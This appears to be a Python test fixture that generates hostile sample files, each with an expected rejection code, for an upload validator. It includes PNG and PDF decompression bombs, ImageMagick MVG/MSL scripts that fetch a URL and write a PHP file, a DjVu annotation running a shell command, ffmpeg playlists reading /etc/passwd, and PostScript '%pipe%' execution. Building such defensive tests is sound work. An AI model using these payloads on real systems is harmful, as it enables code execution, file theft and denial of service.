"""Files made to exhaust, to be taken for something else, or to make a decoder fetch or run something."""

import struct
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass

from tests.evidence import samples, videos

MB = 1024 * 1024
AWAY = "http://127.0.0.1:9/fetched"


@dataclass(frozen=True)
class Sample:
    """``code``: of the refusal; empty where the file is harmless and taken."""

    family: str
    name: str
    code: str
    made: Callable[[], bytes]


def deflated(size: int, unit: bytes = bytes(MB)) -> bytes:
    """``unit`` so many times, packed; made in no time, since the packed unit is repeated as it is."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    first, second = zlib.adler32(unit) & 0xFFFF, zlib.adler32(unit) >> 16
    low, high = 1, 0
    for _number in range(size):  # as Adler-32 goes on over one more unit
        low, high = (low + first - 1) % 65521, (high + len(unit) * (low - 1) + second) % 65521
    return b"\x78\xda" + block * size + b"\x03\0" + struct.pack(">HH", high, low)


# --- PNG --------------------------------------------------------------------------------------------------------------
def png_chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_with(*chunks: bytes, behind: bool = False) -> bytes:
    """A good picture with more chunks before or behind its own."""
    data = samples.png()
    at = len(data) - 12 if behind else 33  # before IEND, or after IHDR
    return data[:at] + b"".join(chunks) + data[at:]


def ztxt(size: int) -> bytes:
    return png_chunk(b"zTXt", b"Comment\0\0" + deflated(size))


def itxt(size: int) -> bytes:
    return png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + deflated(size))


def iccp(size: int) -> bytes:
    return png_chunk(b"iCCP", b"profile\0\0" + deflated(size))


# --- PDF --------------------------------------------------------------------------------------------------------------
def pdf_of(*objects: bytes) -> bytes:
    """A file of these objects, numbered from 1; the first is the catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    start = len(out)
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, start)
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % count + table + trailer


def stream(data: bytes, says: bytes) -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), says) + data + b"\nendstream"


def pdf_page(contents: bytes, resources: bytes = b"<< >>", *others: bytes) -> bytes:
    """One page whose content is object 4; ``others`` come after it."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents 4 0 R /Resources " + resources + b" >>"
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", pages, page, contents, *others)


def pdf_flate(size: int, *, nested: int = 0, unit: bytes = b"0 0 m\n" * (MB // 6)) -> bytes:
    """A page's content of so many MB, packed once and ``nested`` times more."""
    data = deflated(size, unit)
    for _more in range(nested):
        data = zlib.compress(data, 9)
    return pdf_page(stream(data, b"/Filter [" + b"/FlateDecode " * (nested + 1) + b"]"))


def pdf_picture_bomb() -> bytes:
    """A picture of 30,000 × 30,000 grey pixels on the page."""
    says = b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray /BitsPerComponent 8"
    picture = stream(deflated(858), says + b" /Filter /FlateDecode")
    return pdf_page(stream(b"200 0 0 300 0 0 cm /I Do", b""), b"<< /XObject << /I 5 0 R >> >>", picture)


def pdf_object_stream_bomb() -> bytes:
    """Objects that lie in a packed stream of 600 MB, which a cross-reference stream points into."""
    out = b"%PDF-1.7\n"
    places = [0, 0, 0]
    kept = stream(deflated(600, b" " * MB), b"/Type /ObjStm /N 2 /First 12 /Filter /FlateDecode")
    places[1] = len(out)
    out += b"3 0 obj\n" + kept + b"\nendobj\n"
    rows = struct.pack(">BIB", 0, 0, 255)
    rows += struct.pack(">BIB", 2, 3, 0) + struct.pack(">BIB", 2, 3, 1) + struct.pack(">BIB", 1, places[1], 0)
    rows += struct.pack(">BIB", 1, len(out), 0)
    says = b"/Type /XRef /Size 5 /W [1 4 1] /Root 1 0 R"
    return out + b"4 0 obj\n" + stream(rows, says) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(out)


def pdf_loop() -> bytes:
    """A form that draws itself, twice each time."""
    form = stream(
        b"/F Do /F Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>"
    )
    return pdf_page(stream(b"/F Do", b""), b"<< /XObject << /F 5 0 R >> >>", form)


# --- scripts and lists under good names ------------------------------------------------------------------------------
MVG = b"push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 '%s'\npop graphic-context\n" % AWAY.encode()
MSL = b'<?xml version="1.0"?>\n<image><read filename="%s"/><write filename="/dev/shm/x.php"/></image>' % AWAY.encode()
DJVU = b"AT&TFORM\0\0\0\x4eDJVUINFO\0\0\0\x0a\0\x64\0\x64\x18\0\x2c\x01\x16\0"
ANNOTATED = DJVU + b'ANTa\0\0\0\x2c(metadata (Copyright "\\\n" . qx{touch /dev/shm/x} . ""))'
HLS = b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:%s|file:///etc/passwd\n#EXT-X-ENDLIST\n" % AWAY.encode()
DASH = (
    b'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><BaseURL>%s</BaseURL></MPD>'
    % AWAY.encode()
)
CONCAT = b"ffconcat version 1.0\nfile '%s'\n" % AWAY.encode()
POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file closefile showpage\n"


def box(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data) + 8) + name + data


def mp4_brand(data: bytes) -> bytes:
    """What a film begins with, and then something else."""
    return box(b"ftyp", b"isom\0\0\2\0isomiso2avc1mp41") + data


def mp4_elsewhere() -> bytes:
    """A good film whose data reference says that its pictures lie at an address."""
    film = videos.video(sound="")
    here = box(b"url ", b"\0\0\0\1")
    at = film.index(here)
    away = box(b"url ", b"\0\0\0\0" + AWAY.encode() + b"\0")
    more = len(away) - len(here)
    out = bytearray(film[:at] + away + film[at + len(here) :])
    for name in (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"):  # each holds the next
        place = film.index(name) - 4
        out[place : place + 4] = struct.pack(">I", int.from_bytes(film[place : place + 4], "big") + more)
    return bytes(out)


def jpeg_saying(words: bytes) -> bytes:
    return samples.jpeg(comment=words)


ALL: Iterable[Sample] = [
    Sample("png text bomb", "ztxt.png", "file_unreadable", lambda: png_with(ztxt(700))),
    Sample("png text bomb", "ztxt-behind.png", "file_unreadable", lambda: png_with(ztxt(700), behind=True)),
    Sample("png text bomb", "itxt.png", "file_unreadable", lambda: png_with(itxt(700))),
    Sample("png text bomb", "itxt-behind.png", "file_unreadable", lambda: png_with(itxt(700), behind=True)),
    Sample("png text bomb", "many-ztxt.png", "file_unreadable", lambda: png_with(*[ztxt(1)] * 2000)),
    Sample("png text bomb", "iccp.png", "file_unreadable", lambda: png_with(iccp(700))),
    Sample("pdf stream bomb", "flate.pdf", "file_too_complex", lambda: pdf_flate(700)),
    Sample("pdf stream bomb", "nested.pdf", "file_too_complex", lambda: pdf_flate(2000, nested=1)),
    Sample("pdf stream bomb", "nested-deep.pdf", "file_too_complex", lambda: pdf_flate(2000, nested=3)),
    Sample("pdf stream bomb", "zeros.pdf", "file_too_complex", lambda: pdf_flate(2000, nested=1, unit=bytes(MB))),
    Sample("pdf stream bomb", "picture.pdf", "", pdf_picture_bomb),
    Sample("pdf stream bomb", "objects.pdf", "file_unreadable", pdf_object_stream_bomb),
    Sample("pdf stream bomb", "loop.pdf", "file_too_complex", pdf_loop),
    Sample("script for ImageMagick", "mvg.png", "file_content_mismatch", lambda: MVG),
    Sample("script for ImageMagick", "mvg.jpg", "file_content_mismatch", lambda: MVG),
    Sample("script for ImageMagick", "mvg.webp", "file_content_mismatch", lambda: b"\n" + MVG),
    Sample("script for ImageMagick", "msl.png", "file_content_mismatch", lambda: MSL),
    Sample("script for ImageMagick", "msl.gif", "file_content_mismatch", lambda: MSL),
    Sample("script for ImageMagick", "mvg.txt", "file_content_mismatch", lambda: MVG),
    Sample("script for ImageMagick", "script-behind.jpg", "file_has_hidden_content", lambda: samples.jpeg() + MSL),
    Sample("DjVu", "djvu.pdf", "file_content_mismatch", lambda: DJVU),
    Sample("DjVu", "annotated.pdf", "file_content_mismatch", lambda: ANNOTATED),
    Sample("DjVu", "annotated.jpg", "file_content_mismatch", lambda: ANNOTATED),
    Sample("DjVu", "behind-a-head.pdf", "file_unreadable", lambda: b"%PDF-1.7\n" + ANNOTATED + b"\n%%EOF"),
    Sample("playlist", "hls.mp4", "file_content_mismatch", lambda: HLS),
    Sample("playlist", "hls.mov", "file_content_mismatch", lambda: b"\xef\xbb\xbf" + HLS),
    Sample("playlist", "hls.webm", "file_content_mismatch", lambda: HLS),
    Sample("playlist", "dash.mp4", "file_content_mismatch", lambda: DASH),
    Sample("playlist", "concat.mp4", "file_content_mismatch", lambda: CONCAT),
    Sample("playlist", "hls-behind-a-head.mp4", "file_unreadable", lambda: mp4_brand(HLS)),
    Sample("playlist", "dash-behind-a-head.mp4", "file_unreadable", lambda: mp4_brand(DASH)),
    Sample("playlist", "pictures-elsewhere.mp4", "", mp4_elsewhere),
    Sample("PostScript", "plain.jpg", "file_content_mismatch", lambda: POSTSCRIPT),
    Sample("PostScript", "printer.jpg", "file_content_mismatch", lambda: b"\x04" + POSTSCRIPT),
    Sample("PostScript", "job.pdf", "file_content_mismatch", lambda: b"\x1b%-12345X@PJL\n" + POSTSCRIPT),
    Sample("PostScript", "eps.jpg", "file_content_mismatch", lambda: b"\xc5\xd0\xd3\xc6\x1e\0\0\0" + POSTSCRIPT),
    Sample("PostScript", "postscript-behind.jpg", "file_has_hidden_content", lambda: samples.jpeg() + POSTSCRIPT),
    Sample("PostScript", "comment.jpg", "", lambda: jpeg_saying(POSTSCRIPT)),
]
